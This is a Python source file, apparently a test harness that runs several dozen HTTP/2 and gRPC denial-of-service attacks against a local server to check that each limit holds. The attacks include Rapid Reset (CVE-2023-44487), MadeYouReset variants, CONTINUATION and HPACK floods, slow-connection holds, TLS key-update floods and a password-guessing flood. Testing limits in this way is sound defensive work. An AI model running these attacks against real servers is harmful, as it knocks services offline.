"""Attacks, each against one limit, by a client that comes back as soon as its connection was ended.

`attacks.py NAME PORT` reads lines from standard input, each a number of seconds; for so long it attacks, over and over,
then it prints as JSON what it met and how often. It runs in a process of its own, so that the honest client beside it
has an interpreter to itself.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from collections import Counter
from typing import Callable, Iterator

from hyperframe import frame as frames

from key_updates import connect as connect_to_update, key_updates
from raw import (ACK, CHECK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENABLE_PUSH, HEADERS, HEADER_TABLE_SIZE,
                 INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE, PADDED, PING,
                 PREFACE, PRIORITY, PRIORITY_FLAG, WATCH, Connection, frame, message, request, reset, settings,
                 window_update)

FETCH, SIGN_IN = "/latchkey.v1.AuthService/FetchProviders", "/latchkey.v1.AuthService/SignIn"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
LIST_SERVICES = message(b"\x3a\x01*")
PATIENCE_SECONDS = 0.5
# Field 16 of RFC 7541's static table: one byte that counts sixty.
REFERENCE = b"\x90"

Attack = Callable[["Attacker"], None]
ATTACKS: dict[str, Attack] = {}
# What each attack meets at its limit: the words of a GOAWAY, a status, a reset, or a connection that is closed.
MEETS: dict[str, str] = {}


def attack(meets: str) -> Callable[[Attack], Attack]:
    def note(function: Attack) -> Attack:
        ATTACKS[function.__name__], MEETS[function.__name__] = function, meets
        return function
    return note


class Attacker:
    """Where to attack, until when, and what was met: words of GOAWAYs, statuses, how connections ended."""

    def __init__(self, port: int) -> None:
        self.port, self.until, self.met = port, 0.0, Counter[str]()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self, **options: object) -> Connection:
        return Connection(self.port, patience_seconds=PATIENCE_SECONDS, **options)  # type: ignore[arg-type]

    def settled(self, **options: object) -> Connection:
        connection = self.connect(**options)
        connection.until(frames.SettingsFrame)
        connection.write(frame(PING, 0, 0, b"settled?"))
        connection.until(frames.PingFrame)
        return connection

    def flood(self, connection: Connection, parts: Iterator[bytes] | Callable[[], bytes], rounds: int = 10_000) -> None:
        """Writes until the connection is ended or so many rounds are over, then notes what was said."""
        with connection:
            for _ in range(rounds):
                if not self.goes_on:
                    return
                part = next(parts, None) if isinstance(parts, Iterator) else parts()
                if part is None or not sent(connection, part):
                    break
            self.note_end(connection)

    def note_end(self, connection: Connection) -> None:
        """The last word of a connection that is to end now."""
        try:
            word = "closed"
            while (got := connection.read(PATIENCE_SECONDS)) is not None:
                if isinstance(got, frames.GoAwayFrame):
                    word = got.additional_data.decode("latin-1") or f"goaway {got.error_code}"
                    break
            self.met[word] += 1
        except TimeoutError:
            self.met["open"] += 1

    def note_reply(self, connection: Connection, stream: int) -> None:
        reply = connection.reply(stream, PATIENCE_SECONDS)
        self.met[f"status {reply.status}" if reply.status is not None else f"reset {reply.reset}"] += 1

    def calls(self, body: bytes, path: str = CHECK, answers: int = 1000) -> None:
        """One connection that sends the same call again and again."""
        with self.settled() as connection:
            for _ in range(answers):
                if not self.goes_on:
                    return
                stream = connection.stream()
                connection.write(connection.headers(stream, request(path)))
                connection.body(stream, body)
                self.note_reply(connection, stream)


def sent(connection: Connection, part: bytes) -> bool:
    try:
        connection.socket.sendall(part)
        return True
    except OSError:
        return False


def streams(connection: Connection, make: Callable[[int], bytes], each: int = 50) -> Iterator[bytes]:
    while True:
        yield b"".join(make(connection.stream()) for _ in range(each))


def opened(connection: Connection, path: str = CHECK) -> Callable[[int], bytes]:
    """Bytes that open a stream and leave it open. The first call fills the table of both sides."""
    connection.write(connection.headers(connection.stream(), request(path), END_HEADERS | END_STREAM))
    block = connection.encoder.encode(request(path))
    return lambda stream: frame(HEADERS, END_HEADERS, stream, block)


# Streams.


@attack("too_many_resets")
def rapid_reset(attacker: Attacker) -> None:
    """CVE-2023-44487."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + reset(stream)))


@attack("too_many_stream_errors")
def made_you_reset_by_window(attacker: Attacker) -> None:
    """CVE-2025-8671: a window past 2^31 - 1."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 2**31 - 1)))


@attack("too_many_stream_errors")
def made_you_reset_by_length(attacker: Attacker) -> None:
    """CVE-2025-8671: a content-length that is not kept."""
    connection = attacker.settled()
    connection.write(connection.headers(connection.stream(), request(CHECK, ("content-length", "5"))))
    block = connection.encoder.encode(request(CHECK, ("content-length", "5")))
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"a")))


@attack("too_many_stream_errors")
def made_you_reset_by_overrun(attacker: Attacker) -> None:
    """CVE-2025-8671: more DATA than a stream's window holds, of which nghttp2 tells nobody."""
    connection = attacker.settled()
    head, full = opened(connection), bytes(16384)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + frame(
        DATA, 0, stream, full) * 5, each=1))


@attack("request HEADERS: depend on itself")
def made_you_reset_by_itself(attacker: Attacker) -> None:
    """CVE-2025-8671: a stream that depends on itself."""
    connection = attacker.settled()
    opened(connection)
    block = connection.encoder.encode(request())
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | PRIORITY_FLAG, stream, stream.to_bytes(4, "big") + b"\x0f" + block)))


@attack("WINDOW_UPDATE: window_size_increment == 0")
def made_you_reset_by_zero_increment(attacker: Attacker) -> None:
    """CVE-2025-8671: a window that is opened by nothing. nghttp2 ends the connection at the first."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 0)))


@attack("RST_STREAM: stream in idle")
def reset_of_idle_streams(attacker: Attacker) -> None:
    connection = attacker.settled()
    attacker.flood(connection, streams(connection, reset))


@attack("too_many_stream_errors")
def streams_past_the_limit(attacker: Attacker) -> None:
    connection = attacker.settled()
    attacker.flood(connection, streams(connection, opened(connection)))


@attack("too_many_premature_streams")
def streams_past_a_limit_never_acknowledged(attacker: Attacker) -> None:
    connection = attacker.connect(acknowledge=False)
    attacker.flood(connection, streams(connection, opened(connection)))


# Header blocks.


@attack("too_many_continuations")
def continuation_flood(attacker: Attacker) -> None:
    """CVE-2024-28182."""
    connection = attacker.settled()
    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100) * 10)


@attack("too_many_continuations")
def empty_continuations(attacker: Attacker) -> None:
    connection = attacker.settled()
    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1) * 100)


@attack("too_many_continuations")
def header_block_of_a_megabyte(attacker: Attacker) -> None:
    connection = attacker.settled()
    block = connection.encoder.encode(request() + [("x-" + str(at), "v" * 4000) for at in range(256)], huffman=False)
    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    attacker.flood(connection, iter([frame(HEADERS, 0, 1, parts[0])] + [
        frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, 1, part) for part in parts[1:]]))


@attack("header_list_bomb")
def hpack_bomb(attacker: Attacker) -> None:
    """One entry of four thousand bytes, named by sixteen thousand bytes of references."""
    connection = attacker.settled()
    block = connection.encoder.encode(request() + [("x-bomb", "b" * 3900)])
    # 62 is the newest entry of the dynamic table.
    attacker.flood(connection, iter([frame(HEADERS, END_HEADERS, 1, block + b"\xbe" * 12000)]))


@attack("too_many_large_header_lists")
def header_lists_past_the_limit(attacker: Attacker) -> None:
    connection = attacker.settled()
    block = connection.encoder.encode(request()) + REFERENCE * 300
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | END_STREAM, stream, block), each=10))


@attack("too_many_large_header_lists")
def fields_without_a_name(attacker: Attacker) -> None:
    """CVE-2019-9516."""
    connection = attacker.settled()
    block = connection.encoder.encode(request()) + b"\x00\x00\x00" * 4000
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | END_STREAM, stream, block), each=2))


# Frames that bring nothing.


@attack("too_many_pings")
def ping_flood(attacker: Attacker) -> None:
    """CVE-2019-9512."""
    attacker.flood(attacker.settled(), lambda: frame(PING, 0, 0, b"pingping") * 500)


@attack("too_many_control_frames")
def ping_answers_nobody_asked_for(attacker: Attacker) -> None:
    attacker.flood(attacker.settled(), lambda: frame(PING, ACK, 0, b"pingping") * 500)


@attack("too_many_settings")
def settings_flood(attacker: Attacker) -> None:
    """CVE-2019-9515."""
    attacker.flood(attacker.settled(), lambda: settings((HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 4096)) * 10)


@attack("too_many_empty_frames")
def empty_data(attacker: Attacker) -> None:
    """CVE-2019-9518."""
    connection = attacker.settled()
    connection.write(connection.headers(1, request()))
    attacker.flood(connection, lambda: frame(DATA, 0, 1) * 5)


@attack("too_many_empty_frames")
def padded_empty_data(attacker: Attacker) -> None:
    connection = attacker.settled()
    connection.write(connection.headers(1, request()))
    attacker.flood(connection, lambda: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 5)


@attack("too_many_control_frames")
def window_updates(attacker: Attacker) -> None:
    """CVE-2019-9511."""
    attacker.flood(attacker.settled(), lambda: window_update(0, 1) * 500)


@attack("too_many_control_frames")
def unknown_frames(attacker: Attacker) -> None:
    attacker.flood(attacker.settled(), lambda: frame(0xfa, 0xff, 0) * 500)


@attack("too_many_priorities")
def priorities(attacker: Attacker) -> None:
    """CVE-2019-9513: the tree is churned."""
    def churn() -> Iterator[bytes]:
        while True:
            yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10") for at in range(50))

    attacker.flood(attacker.settled(), churn())


@attack("status 0")
def settings_games(attacker: Attacker) -> None:
    """The least and the most of each setting, and a call under each."""
    with attacker.settled() as connection:
        for pair in [(HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 2**32 - 1), (ENABLE_PUSH, 0), (ENABLE_PUSH, 1),
                     (MAX_CONCURRENT_STREAMS, 0), (MAX_CONCURRENT_STREAMS, 2**32 - 1), (MAX_FRAME_SIZE, 16384),
                     (MAX_FRAME_SIZE, 2**24 - 1), (MAX_HEADER_LIST_SIZE, 0), (MAX_HEADER_LIST_SIZE, 2**32 - 1)]:
            connection.write(settings(pair))
            attacker.met[f"status {connection.call().status}"] += 1


@attack("status 0")
def window_games(attacker: Attacker) -> None:
    """A hundred streams whose windows are moved together between the ends of their range."""
    with attacker.settled() as connection:
        held = [connection.stream() for _ in range(100)]
        connection.write(*[connection.headers(stream, request()) for stream in held])
        for size in (2**31 - 1, 0, 2**31 - 1, 0):
            connection.write(settings((INITIAL_WINDOW_SIZE, size)))
        connection.write(settings((INITIAL_WINDOW_SIZE, 65535)),
                         *[frame(DATA, END_STREAM, stream, message()) for stream in held])
        answered(attacker, connection, set(held), PATIENCE_SECONDS)


# Slowly.


@attack("closed")
def slow_handshake(attacker: Attacker) -> None:
    """Two hundred sockets that say nothing, or half a hello."""
    silent = [socket.create_connection(("127.0.0.1", attacker.port)) for _ in range(200)]
    for one in silent[::2]:
        one.sendall(b"\x16\x03\x01\x02\x00\x01")
    wait_for_the_end(attacker, silent)


@attack("slow_frame")
def slow_greeting(attacker: Attacker) -> None:
    """Half a preface after the handshake."""
    hold_and_note(attacker, [attacker.connect(preface=PREFACE[:12]) for _ in range(10)])


@attack("slow_frame")
def slow_header_block(attacker: Attacker) -> None:
    """A CONTINUATION that never comes."""
    held = [attacker.settled() for _ in range(10)]
    for connection in held:
        connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    hold_and_note(attacker, held)


@attack("slow_frame")
def slow_frame(attacker: Attacker) -> None:
    """A frame that comes byte by byte, and never whole."""
    held = [attacker.settled() for _ in range(10)]
    for connection in held:
        connection.write(frame(PING, 0, 0, b"12345678")[:12])
    hold_and_note(attacker, held)


@attack("status 4")
def slow_request(attacker: Attacker) -> None:
    """A message that comes byte by byte."""
    with attacker.settled() as connection:
        held = [connection.stream() for _ in range(50)]
        connection.write(*[connection.headers(stream, request()) + frame(DATA, 0, stream, message(length=60000))
                           for stream in held])
        for _ in range(6):
            connection.write(*[frame(DATA, 0, stream, b"a") for stream in held])
            time.sleep(0.1)
        answered(attacker, connection, set(held), PATIENCE_SECONDS)


@attack("status 8")
def messages_in_parts(attacker: Attacker) -> None:
    """A hundred messages at once, each without its last bytes."""
    with attacker.settled() as connection:
        part = bytes(16000)
        held = [connection.stream() for _ in range(100)]
        for stream in held:
            connection.write(connection.headers(stream, request()))
            for body in (message(part, length=60000), part, part):
                connection.write(frame(DATA, 0, stream, body))
        answered(attacker, connection, set(held), 2)


@attack("status 0")
def one_byte_a_record(attacker: Attacker) -> None:
    """A good call whose every byte is a record of its own."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            stream = connection.stream()
            for byte in connection.headers(stream, request()) + frame(DATA, END_STREAM, stream, message()):
                connection.socket.send(bytes([byte]))
            attacker.note_reply(connection, stream)


def hold_and_note(attacker: Attacker, held: list[Connection]) -> None:
    time.sleep(0.5)
    for connection in held:
        with connection:
            attacker.note_end(connection)


def wait_for_the_end(attacker: Attacker, silent: list[socket.socket]) -> None:
    for one in silent:
        with one:
            one.settimeout(2)
            try:
                attacker.met["closed" if one.recv(100)[:1] in (b"", b"\x15") else "answered"] += 1
            except ConnectionError:
                attacker.met["closed"] += 1
            except TimeoutError:
                attacker.met["open"] += 1


# Answers that nobody takes.


@attack("too_many_untaken_answers")
def zero_window(attacker: Attacker) -> None:
    """Answers behind a window that never opens."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        for stream in [connection.stream() for _ in range(3)]:
            connection.write(connection.headers(stream, request()), frame(DATA, END_STREAM, stream, message()))
        time.sleep(1.2)
        attacker.note_end(connection)


@attack("too_many_untaken_answers")
def window_byte_by_byte(attacker: Attacker) -> None:
    """CVE-2019-9511: an answer is taken a byte at a time, never standing still."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        held = [connection.stream() for _ in range(3)]
        for stream in held:
            connection.write(connection.headers(stream, request(REFLECT)), frame(DATA, 0, stream, LIST_SERVICES))
        for _ in range(12):
            time.sleep(0.2)
            connection.write(*[window_update(stream, 1) for stream in held])
        attacker.note_end(connection)


@attack("reset 11")
def answers_behind_a_window(attacker: Attacker) -> None:
    """CVE-2019-9517: one asks for more and more, and takes nothing."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        stream = connection.stream()
        connection.write(connection.headers(stream, request(REFLECT)))
        for _ in range(100):
            connection.write(frame(DATA, 0, stream, LIST_SERVICES) * 50)
        attacker.note_reply(connection, stream)


@attack("closed")
def socket_never_read(attacker: Attacker) -> None:
    """CVE-2019-9517: the window is open, but the socket is not read."""
    connection = attacker.settled(receive_buffer_bytes=4096)
    connection.write(window_update(0, 2**31 - 1 - 65535), settings((INITIAL_WINDOW_SIZE, 2**31 - 1)))
    stream = connection.stream()
    connection.write(connection.headers(stream, request(REFLECT)))
    with connection:
        written = sum(sent(connection, frame(DATA, 0, stream, LIST_SERVICES) * 200) for _ in range(50))
        time.sleep(1.5)
        attacker.met["closed" if not sent(connection, bytes(4 << 20)) else "open"] += 1
        attacker.met["asked"] += written


# Connections.


@attack("closed")
def connection_flood(attacker: Attacker) -> None:
    """Three hundred sockets from one address, which has 256."""
    held = [socket.create_connection(("127.0.0.1", attacker.port)) for _ in range(300)]
    wait_for_the_end(attacker, held)


@attack("done")
def handshake_flood(attacker: Attacker) -> None:
    """A handshake, and gone."""
    while attacker.goes_on:
        attacker.connect(preface=b"").socket.close()
        attacker.met["done"] += 1


@attack("closed")
def key_update_flood(attacker: Attacker) -> None:
    plain, ssl = connect_to_update(attacker.port)
    with plain:
        try:
            plain.settimeout(PATIENCE_SECONDS)
            plain.sendall(key_updates(ssl, 5_000))
            while plain.recv(65536):
                pass
            attacker.met["closed"] += 1
        except ConnectionError:
            attacker.met["closed"] += 1
        except TimeoutError:
            attacker.met["open"] += 1


# Messages.


@attack("status 8")
def message_of_four_gibibytes(attacker: Attacker) -> None:
    attacker.calls(message(b"a" * 100, length=2**32 - 1))


@attack("status 13")
def deep_nesting(attacker: Attacker) -> None:
    attacker.calls(message(b"\x0b" * 60_000), FETCH)


@attack("status 8")
def many_small_fields(attacker: Attacker) -> None:
    """Thirty thousand times the field `client`, which is a message."""
    attacker.calls(message(b"\x1a\x00" * 30_000), FETCH)


@attack("status 13")
def compressed_message(attacker: Attacker) -> None:
    attacker.calls(message(b"\x1f\x8b" + bytes(100), flag=1))


@attack("status 8")
def password_flood(attacker: Attacker) -> None:
    """A hundred wrong passwords at once, for accounts that may or may not be."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            password = b"\x0a\x0ea@example.com." + b"\x12\x0cnot-this-one"
            kind = b"\x0a" + bytes([len(password)]) + password
            body = message(b"\x0a" + bytes([len(kind)]) + kind)
            held = [connection.stream() for _ in range(100)]
            connection.write(*[connection.headers(stream, request(SIGN_IN)) + frame(DATA, END_STREAM, stream, body)
                               for stream in held])
            answered(attacker, connection, set(held), 8)


# Calls that are as good as any, only many.


@attack("status 0")
def greedy_client(attacker: Attacker) -> None:
    """A hundred calls at once, again and again, on one connection."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            ask(connection, 100)
            answered(attacker, connection, set(range(connection.next_stream - 200, connection.next_stream, 2)), 5)


@attack("status 0")
def greedy_clients(attacker: Attacker) -> None:
    """The same on two hundred connections, which are all ready at once."""
    held = [attacker.settled() for _ in range(200)]
    while attacker.goes_on:
        for connection in held:
            ask(connection, 5)
        for connection in held:
            answered(attacker, connection, set(range(connection.next_stream - 10, connection.next_stream, 2)), 5)
    for connection in held:
        connection.socket.close()


def ask(connection: Connection, count: int) -> None:
    connection.write(*[connection.headers(stream, request()) + frame(DATA, END_STREAM, stream, message())
                       for stream in [connection.stream() for _ in range(count)]])


def answered(attacker: Attacker, connection: Connection, waiting: set[int], timeout_seconds: float) -> None:
    deadline = time.monotonic() + timeout_seconds
    while waiting:
        got = connection.read(deadline - time.monotonic())
        if got is None:
            attacker.met["closed"] += 1
            return
        if got.stream_id in waiting and ("END_STREAM" in got.flags or isinstance(got, frames.RstStreamFrame)):
            waiting.discard(got.stream_id)
            status = dict(got.fields).get("grpc-status") if isinstance(got, frames.HeadersFrame) else "reset"
            attacker.met[f"status {status}"] += 1


def main(name: str, port: int) -> None:
    os.nice(19)
    attacker = Attacker(port)
    for line in sys.stdin:
        attacker.until, attacker.met = time.monotonic() + float(line), Counter()
        while attacker.goes_on:
            try:
                ATTACKS[name](attacker)
            except (OSError, TimeoutError) as error:
                attacker.met[type(error).__name__] += 1
        print(json.dumps(attacker.met), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
